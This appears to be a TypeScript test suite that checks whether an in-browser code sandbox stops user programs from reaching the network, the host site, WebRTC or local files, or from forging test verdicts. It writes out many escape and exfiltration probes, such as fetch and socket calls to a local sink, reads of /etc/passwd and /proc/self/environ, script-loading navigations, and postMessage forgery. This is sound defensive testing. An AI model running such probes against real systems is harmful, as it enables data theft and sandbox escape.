import { expect, test } from "./attacked-page.ts";
import {
  componentWith,
  components,
  previewAttacks,
  tryEach,
  workerAttacks,
} from "./hostile-programs.ts";
import { blankFrames, nestedScripts, takeWindow } from "./webrtc-programs.ts";

test("a program cannot reach the network, the site or its data", async ({ attack, site, sink }) => {
  const attacks = workerAttacks({ site: site.origin, sink: sink.port });
  expect(await attack({ code: tryEach(attacks, 600) })).toMatchObject({
    kind: "finished",
    output: [{ text: `tried ${attacks.length}` }],
  });
});

test("nor can a preview, which has a document", async ({ attack, site, sink }) => {
  const attacks = previewAttacks({ site: site.origin, sink: sink.port });
  for (let index = 0; index < attacks.length; index += 12) {
    const some = attacks.slice(index, index + 12);
    const code = `export default () => null;\nconst attack = async () => {${tryEach(some, 300)}};`;
    const result = await attack({ language: "jsx", code, tests: ["await attack();"] });
    expect(result).toMatchObject({
      output: [{ text: `tried ${some.length}` }],
      tests: [{ passed: true }],
    });
  }
});

for (const [language, component] of Object.entries(components)) {
  test(`nor can a component in ${language}`, { tag: "@full" }, async ({ attack, site, sink }) => {
    const attacks = previewAttacks({ site: site.origin, sink: sink.port });
    for (let index = 0; index < attacks.length; index += 12) {
      const some = attacks.slice(index, index + 12);
      const code = component(`(async () => {${tryEach(some, 300)}})();`);
      const tests = ["await new Promise((resolve) => setTimeout(resolve, 900));"];
      expect(await attack({ language, code, tests })).toMatchObject({
        output: expect.arrayContaining([{ stream: "out", text: `tried ${some.length}` }]),
        tests: [{ passed: true }],
      });
    }
  });

  test(`markup and styles in ${language} load nothing, and WebRTC is out of reach`, async ({
    attack,
    sink,
  }) => {
    const outside = `http://127.0.0.1:${sink.port}/`;
    const code =
      component(
        `try { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${sink.port}" }] }); console.log("made"); } catch (error) { console.log(error.name); }`,
        `<img src="${outside}1" alt=""><video src="${outside}2"></video><object data="${outside}3"></object><b style="background: url(${outside}4)">b</b>`,
      ) +
      `\n<style>\n@import "${outside}5";\n@font-face { font-family: a; src: url(${outside}6) }\nb { background: url(${outside}7); font-family: a }\n</style>`;
    const tests = ["await new Promise((resolve) => setTimeout(resolve, 500));"];
    const refused = { stream: "out", text: "ReferenceError" };
    expect(await attack({ language, code, tests })).toMatchObject({
      output: [refused, refused, refused],
      tests: [{ passed: true }],
    });
  });
}

for (const language of ["php", "python", "sql"]) {
  test(`nor can a program in ${language}`, async ({ attack, site, sink }) => {
    const addresses = [`http://127.0.0.1:${sink.port}/`, `${site.origin}/a`];
    const python = addresses.map(
      (address) => `
import js, socket, pyodide.http
for call in [
    lambda: js.eval("fetch('${address}').catch(() => 0)"),
    lambda: js.eval("importScripts('${address}')"),
    lambda: js.eval("navigator.sendBeacon('${address}')"),
    lambda: js.eval("import('${address}').catch(() => 0)"),
    lambda: js.XMLHttpRequest.new().open("GET", "${address}", False),
    lambda: pyodide.http.open_url("${address}"),
    lambda: socket.create_connection(("127.0.0.1", ${sink.port})).send(b"x"),
    lambda: js.postMessage({"kind": "finished"}),
]:
    try: call()
    except BaseException: pass`,
    );
    const sql = `attach database 'http://127.0.0.1:${sink.port}/' as outside; select load_extension('a');`;
    const php = addresses.map(
      (address) => `
foreach ([
    fn() => file_get_contents("${address}"),
    fn() => fopen("${address}", "r"),
    fn() => copy("${address}", "/tmp/a"),
    fn() => get_headers("${address}"),
    fn() => fwrite(fsockopen("127.0.0.1", ${sink.port}, $code, $text, 1), "x"),
    fn() => fwrite(stream_socket_client("udp://127.0.0.1:${sink.port}", $code, $text, 1), "x"),
    fn() => gethostbyname("${sink.port}.example.org"),
    fn() => mail("a@127.0.0.1", "a", "b"),
    fn() => vrzno_eval("fetch('${address}')"),
    fn() => vrzno_import("${address}"),
    fn() => (new Vrzno)->fetch("${address}"),
    fn() => new PDO("vrzno:${address}"),
] as $call) try { @$call(); } catch (Throwable) {}`,
    );
    const programs: Record<string, string> = {
      php: php.join("\n"),
      python: python.join("\n"),
      sql,
    };
    const { kind } = await attack({ language, code: programs[language]! });
    expect(kind).toBe(language === "sql" ? "error" : "finished");
  });
}

test("nor can a compiled program", async ({ attack, site, sink }) => {
  const files = `#include <dirent.h>
#include <fcntl.h>
#include <cstdlib>
#include <iostream>
int main() {
  for (const char* path : {"/etc/passwd", "/dev/tcp/127.0.0.1/${sink.port}", "${site.origin}/a", "/usr/include/stdio.h", "/proc/self/environ", "../a"}) {
    if (open(path, O_RDWR) >= 0 || opendir(path)) std::cout << "opened " << path << "\\n";
  }
  std::cout << (getenv("PATH") ? "environment" : "nothing");
}`;
  expect(await attack({ language: "cpp", code: files })).toMatchObject({
    kind: "finished",
    output: [{ text: "nothing" }],
  });
  const sockets = [
    'send(number, "x", 1, 0)',
    "accept(number, nullptr, nullptr)",
    "shutdown(number, 2)",
  ];
  for (const call of sockets) {
    const code = `#include <sys/socket.h>\nint main() { for (int number = 0; number < 16; number++) ${call}; }`;
    const { kind } = await attack({ language: "cpp", code });
    expect([call, kind]).toEqual([call, "error"]);
  }
  const imported = (module: string, name: string) =>
    `__attribute__((import_module("${module}"), import_name("${name}"))) extern "C" int outside(const char*);
int main() { return outside("http://127.0.0.1:${sink.port}/"); }`;
  for (const [module, name] of [
    ["env", "fetch"],
    ["globalThis", "fetch"],
    ["wasi_snapshot_preview1", "fetch"],
    ["wasi_snapshot_preview1", "constructor"],
    ["constructor", "constructor"],
    ["__proto__", "toString"],
  ] as const) {
    const { kind } = await attack({ language: "cpp", code: imported(module, name) });
    expect([module, name, kind]).toEqual([module, name, "error"]);
  }
  for (const line of [
    '#include "/etc/passwd"',
    `#include "${site.origin}/a"`,
    "#include </proc/self/environ>",
  ]) {
    const code = `${line}\nint main() {}`;
    expect(await attack({ language: "cpp", code })).toMatchObject({ kind: "error" });
  }
});

const navigations = [
  "document.body.innerHTML = '<meta http-equiv=refresh content=\"0;url=' + OUTSIDE + '\">'",
  "location.href = OUTSIDE",
  "location.href = SITE + '/a'",
  "location.replace('data:text/html,<script>fetch(\"' + OUTSIDE + '\")</script>')",
  "location.href = URL.createObjectURL(new Blob(['<script src=' + OUTSIDE + '></script>'], { type: 'text/html' }))",
  "document.open(); document.write('<img src=' + OUTSIDE + '><script src=' + OUTSIDE + '></script>'); document.close()",
];

for (const [index, navigation] of navigations.entries()) {
  const title = `a preview that navigates loads nothing: ${navigation}`;
  test(title, { tag: index < 2 ? [] : "@full" }, async ({ attack, site, sink }) => {
    const addresses = `const OUTSIDE = "http://127.0.0.1:${sink.port}/", SITE = "${site.origin}";`;
    const wait = "await new Promise((resolve) => setTimeout(resolve, 400));";
    await attack({
      language: "jsx",
      code: `${addresses}\n${navigation};\nexport default () => null;`,
      tests: [wait],
    });
    expect(await attack({ code: "console.log(1)" })).toMatchObject({ kind: "finished" });
  });
}

test("WebRTC is out of reach, also through blank frames", async ({ attack, sink }) => {
  const wait = "await new Promise((resolve) => setTimeout(resolve, 300));";
  for (const window of blankFrames) {
    const code = componentWith(takeWindow(window, sink.port));
    const result = await attack({ language: "jsx", code, tests: [wait] });
    expect([window, result]).toEqual([
      window,
      expect.objectContaining({
        output: [{ stream: "out", text: expect.stringMatching(/Error$/) }],
      }),
    ]);
  }
});

for (const [what, attackBy] of Object.entries(nestedScripts)) {
  test(`WebRTC is out of reach of a nested frame that runs ${what}`, async ({ attack, sink }) => {
    const wait = "await new Promise((resolve) => setTimeout(resolve, 800));";
    const code = componentWith(attackBy(sink.port));
    const result = await attack({ language: "jsx", code, tests: [wait] });
    expect(result).toMatchObject({ kind: "finished", tests: [{ passed: true }] });
  });
}

test("a verdict without the key of the run is no verdict", async ({ attack }) => {
  const verdict = `{ kind: "finished", truncated: false, tests: [{ passed: true }] }`;
  const worker = `postMessage(${verdict});
self.postMessage = () => {};
onmessage = ({ data }) => postMessage({ ...data, ...${verdict} });
addEventListener("message", ({ data }) => console.log(data));
Promise.prototype.then.call(Promise.resolve(), () => postMessage(${verdict}));`;
  expect(await attack({ code: worker, tests: ["expect(1).toBe(2);"] })).toMatchObject({
    tests: [{ passed: false }],
  });
  const preview = `
const result = { kind: "result", id: 1, result: { ...${verdict}, output: [] } };
for (let id = 0; id < 5; id++) parent.postMessage({ ...result, id }, "*");
const { postMessage } = MessagePort.prototype;
MessagePort.prototype.postMessage = function (message, ...more) {
  if (message) console.log("taken", message);
  return postMessage.call(this, message, ...more);
};
onmessage = () => console.log("message");
export default () => null;`;
  expect(
    await attack({ language: "jsx", code: preview, tests: ["expect(1).toBe(2);"] }),
  ).toMatchObject({ output: [], tests: [{ passed: false }] });
});
